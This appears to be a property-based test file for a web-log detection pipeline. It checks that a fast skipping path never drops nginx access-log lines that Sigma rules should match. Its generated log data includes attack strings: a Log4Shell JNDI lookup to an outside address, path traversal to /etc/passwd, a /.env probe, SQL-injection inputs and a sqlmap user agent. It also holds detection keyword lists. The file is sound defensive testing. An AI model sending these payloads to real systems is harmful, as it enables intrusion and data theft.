/** Requests that are passed over by their bytes: none of them may be one that a rule wants. */
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { createDecode } from '../../src/decoders/decode.ts';
import { WEB_ACCESS } from '../../src/decoders/kinds.ts';
import { WEB_PARTS, WEB_VARYING } from '../../src/decoders/web/parts.ts';
import { createWebSkim } from '../../src/decoders/web/skim.ts';
import { loadRules } from '../../src/detectors/sigma/load.ts';
import { readRuleFiles } from '../../src/detectors/sigma/read-files.ts';
import type { LinkedRule, RuleSet } from '../../src/detectors/sigma/rule-set.ts';
import { BUNDLED_RULES } from '../../src/pipeline.ts';

const bundled = loadRules(readRuleFiles([BUNDLED_RULES])).set;
const decode = createDecode({ timezone: 'UTC', program: 'nginx' });

const LOOKUP = `$\{jndi:ldap://198.51.100.1/a}`;
const TARGETS = [
  '/',
  '/about',
  '/search?q=caf%C3%A9',
  '/static/app.js',
  '/docs/union-types',
  '/image?path=../../etc/passwd',
  '/.env',
  '/wp-login.php',
  '/?id=1%27%20or%201=1',
  '/?sid=123',
  '/a\\x22b',
  `/${LOOKUP}`,
];
const BROWSERS: [string, ...string[]] = ['Mozilla/5.0 (X11; Linux x86_64)', 'curl/8.5.0', 'sqlmap/1.8', '-', LOOKUP];
const REFERRERS: [string, ...string[]] = [
  '-',
  'https://example.com/',
  'https://elsewhere.example/?q=1',
  "https://example.com/' or '1'='1",
];
/** Mostly the first of the values. */
const mostly = <T>(first: T, ...others: T[]): fc.Arbitrary<T> =>
  fc.oneof({ weight: 9, arbitrary: fc.constant(first) }, { weight: 1, arbitrary: fc.constantFrom(...others) });
const line = fc
  .record({
    ip: mostly('192.0.2.1', '198.51.100.7', '2001:db8::1', 'host.example', '192.0.2.1,'),
    user: mostly('-', 'alice'),
    stamp: mostly('24/Nov/2026:08:48:18 +0000', '24/Nov/2026:08:48:59 +0000', '24/Nov/2026:08:49:61 +0000', 'x'),
    method: mostly('GET', 'POST', 'PROPFIND'),
    target: fc.constantFrom(...TARGETS),
    version: mostly(' HTTP/1.1', ' HTTP/2.0', ''),
    status: mostly('200', '304', '404', '401', '503', '2x0'),
    bytes: mostly('0', '1234', '-'),
    referrer: mostly(...REFERRERS),
    browser: mostly(...BROWSERS),
    more: mostly('', ' "203.0.113.9"', ' 0.003'),
  })
  .map(
    (r) =>
      `${r.ip} - ${r.user} [${r.stamp}] "${r.method} ${r.target}${r.version}" ${r.status} ${r.bytes} "${r.referrer}" "${r.browser}"${r.more}`,
  );

function skimOf(set: RuleSet): ReturnType<typeof createWebSkim> | null {
  const judge = set.judge(WEB_ACCESS, WEB_PARTS, WEB_VARYING);
  return judge === null ? null : createWebSkim(judge, createDecode({ timezone: 'UTC', program: 'nginx' }));
}

/** Runs lines through a skim as a reader does, in a buffer that is used again; returns what was passed over. */
function passedOver(skim: ReturnType<typeof createWebSkim>, lines: readonly string[]): string[] {
  const buffer = Buffer.alloc(4096);
  return lines.filter((text) => {
    const end = buffer.write(`${text}\n`, 16, 'latin1') + 15;
    return skim(buffer, 16, end);
  });
}

function matched(set: RuleSet, text: string): string[] {
  const event = decode.decode(text, 0);
  if (event === null) return ['nothing could be read'];
  const out: LinkedRule[] = [];
  set.tableFor(event.kind).match(event, out);
  return out.map((rule) => rule.rule.title);
}

test('what is passed over is wanted by no bundled rule', () => {
  let passed = 0;
  fc.assert(
    fc.property(fc.array(line, { minLength: 200, maxLength: 400 }), (lines) => {
      const dull = passedOver(skimOf(bundled)!, [...lines, ...lines, ...lines]);
      passed += dull.length;
      for (const text of new Set(dull)) expect(matched(bundled, text), text).toEqual([]);
    }),
    { numRuns: 60, seed: 7 },
  );
  expect(passed).toBeGreaterThan(1000);
});

const PLAIN = '192.0.2.1 - - [24/Nov/2026:08:48:18 +0000] "GET /about HTTP/1.1" 200 1234 "-" "Mozilla/5.0"';

const KEYWORDS = withRule(
  `  a:\n    - '\${jndi:ldap:/'\n    - 'curl/8.5'\n    - '.git/config'\n    - 'x""qz'\n    - '.js http/1.1"'\n    - '"sqlm'\n  b:\n    - user_agent.original|contains: sqlmap\n    - url.query|contains: 'q=caf'\n    - http.request.referrer|contains: elsewhere.example\n  condition: a or b`,
);

test('keywords and fields of several parts are looked for in each part', () => {
  let passed = 0;
  let wanted = 0;
  fc.assert(
    fc.property(fc.array(line, { minLength: 200, maxLength: 400 }), (lines) => {
      const dull = new Set(passedOver(skimOf(KEYWORDS)!, [...lines, ...lines, ...lines]));
      passed += dull.size;
      for (const text of lines) if (matched(KEYWORDS, text).includes('A')) wanted++;
      for (const text of dull) expect(matched(KEYWORDS, text), text).toEqual([]);
    }),
    { numRuns: 40, seed: 11 },
  );
  expect(passed).toBeGreaterThan(300);
  expect(wanted).toBeGreaterThan(1000);
});

test('a page is passed over from the third time on', () => {
  const skim = skimOf(bundled)!;
  expect(passedOver(skim, [PLAIN, PLAIN, PLAIN, PLAIN])).toHaveLength(2);
});

function withRule(detection: string): RuleSet {
  const text = `title: A\nid: 1de16b48-88a0-5bcd-8bd5-5f96ad81d6fb\nlogsource:\n  category: webserver\ndetection:\n${detection}\nlevel: low\n`;
  return loadRules([...readRuleFiles([BUNDLED_RULES]), { path: 'a.yml', text }]).set;
}

test.each([
  ['an address alone', '  a:\n    source.ip|cidr: 192.0.2.0/24\n  condition: a'],
  ['text that may stand around the parts', '  a:\n    - 10/nov/2026\n  condition: a'],
  ['text across the parts', "  a:\n    - 'xyz\" 200'\n  condition: a"],
  ['an address as text', '  a:\n    - 192.0.2.1\n  condition: a'],
  ['the size alone', '  a:\n    http.response.body.bytes|gte: 1000\n  condition: a'],
])('a rule about %s ends passing over', (_name, detection) => {
  expect(skimOf(withRule(detection))).toBeNull();
});

test('a rule about the size of one page ends it for that page only', () => {
  const set = withRule('  a:\n    url.path: /about\n    http.response.body.bytes|gte: 1000\n  condition: a');
  const other = PLAIN.replace('/about', '/other');
  expect(passedOver(skimOf(set)!, [PLAIN, other, PLAIN, other, PLAIN, other])).toEqual([other]);
});
